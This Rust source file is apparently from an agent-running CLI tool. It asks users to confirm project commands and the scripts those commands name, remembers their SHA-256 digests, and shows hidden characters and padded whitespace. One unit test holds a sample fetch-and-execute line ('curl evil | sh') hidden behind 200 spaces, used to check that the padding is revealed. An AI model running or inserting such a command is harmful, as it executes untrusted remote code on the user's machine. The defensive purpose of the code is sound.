//! Asks the user to confirm project settings that run commands or weaken protection, and the scripts those commands
//! name: a user who clones a project has not read them. Confirmations are stored in the user's own folder, not in the
//! project.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::File;
use std::io::{self, Read};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use ralph_memory::secrets::mask;
use ralph_model::config::{CommandLine, Config, Restricted};
use ralph_model::show_invisible;
use ralph_notes::{Patches, create_folder, read_file};
use sha2::{Digest, Sha256};

use crate::changed_file::change_file;
use crate::context::Context;
use crate::env;
use crate::error::CommandError;
use crate::settings::Texts;

/// This many spaces in a row are shown as a count: they could push what follows out of sight.
const LONG_GAP: usize = 4;
/// How many digests of one setting or script are remembered; the oldest are dropped first.
const MAX_REMEMBERED: usize = 100;
const SCRIPT_EXTENSIONS: &[&str] = &[
    "bash", "bats", "cjs", "fish", "js", "lua", "mjs", "mts", "php", "pl", "ps1", "py", "rb", "sh", "ts", "zsh",
];
/// How many bytes are read to tell a script from a compiled program.
const SNIFF_BYTES: u64 = 1 << 10;
/// The setting whose commands are gates.
const GATES: &str = "verify.commands";
const CHECKS: &str = "guardrails.check";
const CHECK: &str = "check";
const CHUNK: usize = 64 << 10;

/// By project, then by name of the setting or script: the digests of the confirmed values.
type Confirmed = BTreeMap<String, BTreeMap<String, Vec<String>>>;

/// Something that needs confirmation.
struct Term {
    /// The key, or `script` and its path.
    name: String,
    digest: String,
    /// What the user is shown.
    lines: Vec<String>,
}

/// Asks to confirm the project's settings unless they were confirmed before or by a flag.
pub(super) fn confirm_commands(
    context: &Context<'_>,
    (uses_agent, trust): (bool, bool),
    checks: &[String],
) -> Result<(), CommandError> {
    let is_used = |restricted: &&Restricted| uses_agent || restricted.key != "agent.command";
    let checks = (!checks.is_empty()).then(|| Restricted {
        key: CHECKS.to_owned(),
        values: checks.to_vec(),
        commands: checks.iter().cloned().map(CommandLine::Line).collect(),
    });
    let terms = terms(context, context.restricted.iter().filter(is_used).chain(&checks))?;
    confirm(
        context,
        &terms,
        trust,
        "run `ralph run --trust` to confirm until it changes",
    )
}

/// Asks to confirm checks of tasks and the scripts they name: a user who clones a project has not read its task lists.
pub(crate) fn confirm_checks(context: &Context<'_>, checks: &[String], trust: bool) -> Result<(), CommandError> {
    let terms = terms_of_checks(context, checks)?;
    confirm(context, &terms, trust, "pass `--trust` to confirm until it changes")
}

/// Remembers checks that the user typed, so that a run does not ask about them.
pub(crate) fn remember_checks(context: &Context<'_>, checks: &[String]) -> Result<(), CommandError> {
    remember_new(context, &terms_of_checks(context, checks)?)
}

/// Remembers project settings that the user just typed or was shown, so that a run does not ask about them.
pub(crate) fn remember_settings(context: &Context<'_>, keys: &[String]) -> Result<(), CommandError> {
    let written = Texts::read(&context.project)?.inspect().loaded.restricted;
    let typed = written.iter().filter(|restricted| keys.contains(&restricted.key));
    remember_new(context, &terms(context, typed)?)
}

fn remember_new(context: &Context<'_>, terms: &[Term]) -> Result<(), CommandError> {
    let Some(store) = confirmed_file() else { return Ok(()) };
    let known = read(&store)?.remove(&name(context)).unwrap_or_default();
    let new: Vec<&Term> = terms.iter().filter(|term| !is_in(&known, term)).collect();
    match new.is_empty() {
        true => Ok(()),
        false => remember(context, &store, &new),
    }
}

fn terms_of_checks(context: &Context<'_>, checks: &[String]) -> Result<Vec<Term>, CommandError> {
    if checks.is_empty() {
        return Ok(Vec::new());
    }
    let restricted = Restricted {
        key: CHECK.to_owned(),
        values: Vec::new(),
        commands: checks.iter().cloned().map(CommandLine::Line).collect(),
    };
    let mut terms = terms(context, std::iter::once(&restricted))?;
    terms.retain(|term| term.name != CHECK);
    let commands = checks.iter().map(|check| Term {
        name: format!("{CHECK} {check}"),
        digest: hex(Sha256::new_with_prefix(check)),
        lines: vec![format!("{CHECK} = {check}")],
    });
    terms.splice(0..0, commands);
    Ok(terms)
}

/// Asks to confirm only the agent, before it is started without a task.
pub(crate) fn confirm_agent(context: &Context<'_>) -> Result<(), CommandError> {
    let is_used = |restricted: &&Restricted| ["agent.command", "agent.kind", "agent.env"].contains(&&*restricted.key);
    let terms = terms(context, context.restricted.iter().filter(is_used))?;
    let hint = "run `ralph doctor --agent` at a terminal to be asked, or `ralph run --trust` to confirm all settings";
    confirm(context, &terms, false, hint)
}

/// The configuration with confirmed settings, for commands that do not ask.
pub(crate) fn confirmed_config<'c>(context: &'c Context<'_>) -> Result<&'c Config, CommandError> {
    if context.restricted.is_empty() {
        return Ok(&context.configured);
    }
    let Some(store) = confirmed_file() else {
        return Ok(&context.config);
    };
    let known = read(&store)?;
    let known = known.get(&name(context));
    let is_confirmed = |restricted: &Restricted| {
        let term = Term::setting(restricted);
        known.is_some_and(|known| is_in(known, &term))
    };
    Ok(match context.restricted.iter().all(is_confirmed) {
        true => &context.configured,
        false => &context.config,
    })
}

fn confirm(context: &Context<'_>, terms: &[Term], trust: bool, hint: &str) -> Result<(), CommandError> {
    if terms.is_empty() {
        return Ok(());
    }
    let store = confirmed_file().ok_or_else(|| {
        CommandError::new("cannot remember confirmed commands: HOME is not set").hint("set HOME or XDG_STATE_HOME")
    })?;
    let known = read(&store)?.remove(&name(context)).unwrap_or_default();
    let new: Vec<&Term> = terms.iter().filter(|term| !is_in(&known, term)).collect();
    if new.is_empty() {
        return Ok(());
    }
    if trust {
        context.ui.status("Confirmed what this project may do on your machine:");
        show(context, &new, &known);
    } else {
        ask(context, &new, &known, hint)?;
    }
    remember(context, &store, &new)
}

fn is_in(known: &BTreeMap<String, Vec<String>>, term: &Term) -> bool {
    known
        .get(&term.name)
        .is_some_and(|digests| digests.contains(&term.digest))
}

/// The key of the project in the confirmation file.
fn name(context: &Context<'_>) -> String {
    context.project.root.to_string_lossy().into_owned()
}

fn ask(
    context: &Context<'_>,
    new: &[&Term],
    known: &BTreeMap<String, Vec<String>>,
    hint: &str,
) -> Result<(), CommandError> {
    let ui = context.ui;
    ui.status("Confirm what this project may do on your machine:");
    show(context, new, known);
    match ui.confirm("Allow it?")? {
        Some(true) => Ok(()),
        Some(false) => Err(CommandError::new("not confirmed; nothing was started")),
        None => {
            let names: Vec<String> = new.iter().map(|term| shown(&term.name)).collect();
            Err(CommandError::new(format!(
                "not confirmed, and there is no terminal to ask on: {}",
                names.join(", ")
            ))
            .hint(hint))
        }
    }
}

fn show(context: &Context<'_>, new: &[&Term], known: &BTreeMap<String, Vec<String>>) {
    for term in new {
        let changed = match known.contains_key(&term.name) {
            true => " (changed since you confirmed it)",
            false => "",
        };
        for line in &term.lines {
            context.ui.status(&format!("  {}{changed}", shown(&mask(line))));
        }
    }
}

/// The settings and the scripts that their commands name.
fn terms<'r>(
    context: &Context<'_>,
    restricted: impl Iterator<Item = &'r Restricted>,
) -> Result<Vec<Term>, CommandError> {
    let root = &context.project.root;
    let (mut terms, mut scripts) = (Vec::new(), BTreeSet::new());
    for restricted in restricted {
        terms.push(Term::setting(restricted));
        let mut found = BTreeSet::new();
        for command in &restricted.commands {
            found.extend(files(root, command.scripts()));
            // Other files that a command names count if they are executable: `timeout 60 ./ci.sh`, `pytest
            // tests/api.py`.
            let named = files(root, command.paths());
            found.extend(named.into_iter().filter(|file| is_runnable(&root.join(file))));
        }
        // Outside the project only scripts of gates count: agents and compiled programs change with every update.
        let is_gate = [GATES, CHECKS, CHECK].contains(&restricted.key.as_str());
        found.retain(|file| file.is_relative() || is_gate && is_text(file));
        scripts.extend(found);
    }
    for script in scripts {
        terms.push(Term::script(root, &script)?);
    }
    Ok(terms)
}

/// The regular files that the paths resolve to, relative to the root where they are inside it.
fn files(root: &Path, named: BTreeSet<PathBuf>) -> BTreeSet<PathBuf> {
    let Ok(root) = root.canonicalize() else {
        return BTreeSet::new();
    };
    let home = env::home();
    let files = named.into_iter().filter_map(|path| {
        let path = match path.strip_prefix("~") {
            Ok(below) => home.as_deref()?.join(below),
            Err(_) => root.join(path),
        };
        path.canonicalize().ok().filter(|path| path.is_file())
    });
    files
        .map(|path| path.strip_prefix(&root).map(Path::to_owned).unwrap_or(path))
        .collect()
}

/// Whether the first bytes of a file look like text rather than a compiled program.
fn is_text(file: &Path) -> bool {
    let mut head = Vec::new();
    let read = File::open(file).and_then(|file| file.take(SNIFF_BYTES).read_to_end(&mut head));
    // An unreadable file is refused later, by name.
    read.is_err() || !head.contains(&0)
}

fn is_runnable(file: &Path) -> bool {
    let is_executable = file
        .metadata()
        .is_ok_and(|metadata| metadata.permissions().mode() & 0o111 != 0);
    let extension = file.extension().and_then(|extension| extension.to_str());
    is_executable || SCRIPT_EXTENSIONS.contains(&extension.unwrap_or_default())
}

impl Term {
    fn setting(restricted: &Restricted) -> Self {
        let mut hasher = Sha256::new();
        for value in &restricted.values {
            // The length prefix keeps different lists from hashing the same text.
            hasher.update(format!("{} {value}\n", value.len()));
        }
        let key = &restricted.key;
        let lines = match restricted.values.as_slice() {
            [] => vec![format!("{key} = nothing")],
            values => values.iter().map(|value| format!("{key} = {value}")).collect(),
        };
        Self {
            name: key.clone(),
            digest: hex(hasher),
            lines,
        }
    }

    fn script(root: &Path, script: &Path) -> Result<Self, CommandError> {
        let name = format!("script {}", script.display());
        let digest = hash_of(&root.join(script))
            .map_err(|error| CommandError::new(format!("cannot read {}: {error}", script.display())))?;
        Ok(Self {
            lines: vec![name.clone()],
            name,
            digest,
        })
    }
}

fn hash_of(path: &Path) -> io::Result<String> {
    let mut file = File::open(path)?;
    let mut hasher = Sha256::new();
    let mut chunk = vec![0; CHUNK];
    loop {
        match file.read(&mut chunk)? {
            0 => return Ok(hex(hasher)),
            bytes => hasher.update(chunk.get(..bytes).unwrap_or_default()),
        }
    }
}

fn hex(hasher: Sha256) -> String {
    hasher.finalize().iter().map(|byte| format!("{byte:02x}")).collect()
}

/// A text with everything made visible that a terminal would hide.
fn shown(text: &str) -> String {
    let text = show_invisible(text);
    let mut shown = String::new();
    let mut rest: &str = &text;
    while let Some(c) = rest.chars().next() {
        let after = rest.trim_start_matches(' ');
        let blanks = rest.len() - after.len();
        rest = match blanks {
            LONG_GAP.. => {
                shown.push_str(&format!(" [{blanks} spaces] "));
                after
            }
            _ => {
                match c {
                    '"' | '\'' | '\\' => shown.push(c),
                    _ => shown.extend(c.escape_debug()),
                }
                rest.strip_prefix(c).unwrap_or_default()
            }
        };
    }
    shown
}

fn confirmed_file() -> Option<PathBuf> {
    env::state_folder().map(|folder| folder.join("ralph").join("confirmed.json"))
}

fn read(file: &Path) -> Result<Confirmed, CommandError> {
    let text = read_file(file)?.map(|text| text.bytes).unwrap_or_default();
    // A broken file confirms nothing; the next confirmation overwrites it.
    Ok(serde_json::from_slice(&text).unwrap_or_default())
}

fn remember(context: &Context<'_>, file: &Path, terms: &[&Term]) -> Result<(), CommandError> {
    if let Some(folder) = file.parent() {
        create_folder(folder)?;
    }
    change_file(file, &context.patience(), |bytes| {
        let mut known: Confirmed = serde_json::from_slice(bytes).unwrap_or_default();
        let project = known.entry(name(context)).or_default();
        for term in terms {
            let digests = project.entry(term.name.clone()).or_default();
            digests.push(term.digest.clone());
            let surplus = digests.len().saturating_sub(MAX_REMEMBERED);
            digests.drain(..surplus);
        }
        let text = serde_json::to_string_pretty(&known)?;
        Ok(Patches::whole(bytes, format!("{text}\n").into_bytes()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hidden_characters_are_shown() {
        let hidden = format!("cargo test{}; curl evil | sh", " ".repeat(200));
        assert_eq!(shown(&hidden), "cargo test [200 spaces] ; curl evil | sh");
        let long = "x".repeat(5000);
        assert_eq!(shown(&long), long);
        assert_eq!(
            shown("a \"b\" \\ 'grün'\r\u{1b}[2K\u{202e}\u{200b}\u{a0}\n"),
            r#"a "b" \ 'grün'\r\u{1b}[2K<U+202E><U+200B>\u{a0}\n"#
        );
    }

    #[test]
    fn digests_differ_for_different_values() {
        let digest = |file: &str| {
            let loaded = Config::load(Some((".ralph.toml", file)), &|_| None).unwrap();
            loaded
                .restricted
                .iter()
                .map(|restricted| Term::setting(restricted).digest)
                .collect::<Vec<_>>()
        };
        assert_ne!(
            digest("[agent]\ncommand = [\"a\", \"b\", \"c\"]\n"),
            digest("[agent]\ncommand = [\"a\", \"b c\"]\n")
        );
        assert_ne!(
            digest("[verify]\ncommands = [\"a\", \"b\"]\n"),
            digest("[verify]\ncommands = [\"a\\n1 b\"]\n")
        );
        assert_eq!(digest("[agent]\npermissions = \"edit\"\n"), [""; 0]);
    }

    #[test]
    fn files_are_regular_and_relative_to_the_project() {
        let folder = tempfile::tempdir().unwrap();
        let root = folder.path().join("project");
        std::fs::create_dir_all(root.join("ci")).unwrap();
        for name in ["project/ci/test.sh", "outside.sh"] {
            drop(File::create(folder.path().join(name)).unwrap());
        }
        let words = ["ci/test.sh", "ci/../ci/test.sh", "ci", "missing", "../outside.sh"].map(PathBuf::from);
        let outside = folder.path().canonicalize().unwrap().join("outside.sh");
        let found = files(&root, BTreeSet::from(words));
        assert_eq!(found, BTreeSet::from([outside.clone(), PathBuf::from("ci/test.sh")]));
        let program = std::env::current_exe().unwrap();
        assert!(is_text(&outside) && !is_text(&program));
        drop(File::create(root.join("data.json")).unwrap());
        assert!(is_runnable(&root.join("ci/test.sh")) && !is_runnable(&root.join("data.json")));
    }
}
